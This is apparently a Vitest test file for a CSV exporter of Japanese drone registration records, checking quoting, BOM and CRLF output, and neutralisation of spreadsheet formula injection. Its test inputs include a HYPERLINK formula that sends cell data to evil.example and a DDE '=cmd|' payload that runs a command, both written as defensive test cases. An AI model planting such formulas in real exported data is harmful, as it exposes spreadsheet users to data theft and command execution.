// SPDX-License-Identifier: MIT
import { describe, expect, it } from "vitest";
import { csvField, REGISTER_CSV_COLUMNS, registerCsv } from "./registration-csv";
import { RegistrationSchema } from "./registrations";
import { SAMPLE_DEREGISTERED, SAMPLE_REGISTRATION } from "./registrations-sample";

/** A strict RFC 4180 reader for the checks below: every field quoted, CRLF after every record. */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  const field = /"((?:[^"]|"")*)"(,|\r\n)/gy;
  let record: string[] = [];
  let read = 0;
  for (let match = field.exec(text); match; match = field.exec(text)) {
    record.push((match[1] ?? "").replaceAll('""', '"'));
    read = field.lastIndex;
    if (match[2] === "\r\n") {
      records.push(record);
      record = [];
    }
  }
  expect(text.slice(read), "unread rest").toBe("");
  return records;
}

describe("csvField", () => {
  it.each([
    ["plain", '"plain"'],
    ["", '""'],
    ['say "hi"', '"say ""hi"""'],
    ["a,b", '"a,b"'],
    ["line 1\r\nline 2\nline 3", '"line 1\r\nline 2\nline 3"'],
    ["山田 太郎「点検1号機」", '"山田 太郎「点検1号機」"'],
  ])("quotes %j", (text, field) => {
    expect(csvField(text)).toBe(field);
  });

  it.each([
    ["=1+1", `"'=1+1"`],
    ['=HYPERLINK("https://evil.example/?"&A1,"x")', `"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`],
    ["+81-3-0000-0000", `"'+81-3-0000-0000"`],
    ["-2+3", `"'-2+3"`],
    ["@SUM(A1:A2)", `"'@SUM(A1:A2)"`],
    ["\t=1", `"'\t=1"`],
    ["\r=1", `"'\r=1"`],
    ["\0=1", `"'\0=1"`],
    ["＝1+1", `"'＝1+1"`],
    ["－1", `"'－1"`],
    ["＋1", `"'＋1"`],
    ["＠A1", `"'＠A1"`],
    ["﹦1+1", `"'﹦1+1"`],
    ["﹢1", `"'﹢1"`],
    ["﹣1", `"'﹣1"`],
    ["﹫A1", `"'﹫A1"`],
    ["⁼1", `"'⁼1"`],
    ["₊1", `"'₊1"`],
    ["\u22121", `"'\u22121"`],
  ])("defuses %j", (text, field) => {
    expect(csvField(text)).toBe(field);
  });

  it("leaves formula characters alone after the first", () => {
    expect(csvField("a=1")).toBe('"a=1"');
    expect(csvField("SN-1@2")).toBe('"SN-1@2"');
    expect(csvField("'quoted")).toBe(`"'quoted"`);
  });
});

describe("registerCsv", () => {
  it("has a column for every field of a registration", () => {
    expect([...REGISTER_CSV_COLUMNS].sort()).toEqual(Object.keys(RegistrationSchema.shape).sort());
  });

  it("starts with a BOM and a header row, and ends every record with CRLF", () => {
    const csv = registerCsv([]);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    expect(csv).toBe(`\uFEFF${REGISTER_CSV_COLUMNS.map((column) => `"${column}"`).join(",")}\r\n`);
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it("writes one row per registration, empty for null and absent values", () => {
    const records = readCsv(registerCsv([SAMPLE_REGISTRATION, SAMPLE_DEREGISTERED]).slice(1));
    expect(records).toHaveLength(3);
    const rows = records
      .slice(1)
      .map((record) => Object.fromEntries(REGISTER_CSV_COLUMNS.map((c, i) => [c, record[i]])));
    expect(rows[0]).toMatchObject({
      mark: "JU0A1B2C3D4E",
      expiryDate: "2025-06-19",
      expirySource: "computed",
      deregistered: "false",
      uaProfileId: "ua-mavic",
    });
    expect(rows[1]).toMatchObject({
      manufacturer: "そらドローン / Sora Drone",
      model: "SD-1 点検機",
      expiryDate: "2027-02-28",
      deregistered: "true",
      ownerProfileId: "",
      applicationId: "",
    });
  });

  it("round-trips quotes, commas and Japanese text, and defuses formulas in any column", () => {
    const hostile = {
      ...SAMPLE_REGISTRATION,
      manufacturer: '=cmd|"/c calc"!A1',
      model: 'モデル "X", 改',
      serialNumber: "-1+2",
      ownerProfileId: "-owner",
      uaProfileId: "@ua",
    };
    const [, row] = readCsv(registerCsv([hostile]).slice(1));
    expect(row?.slice(1, 4)).toEqual([`'=cmd|"/c calc"!A1`, 'モデル "X", 改', "'-1+2"]);
    expect(row?.slice(8, 10)).toEqual(["'-owner", "'@ua"]);
    expect(row).toHaveLength(REGISTER_CSV_COLUMNS.length);
  });
});
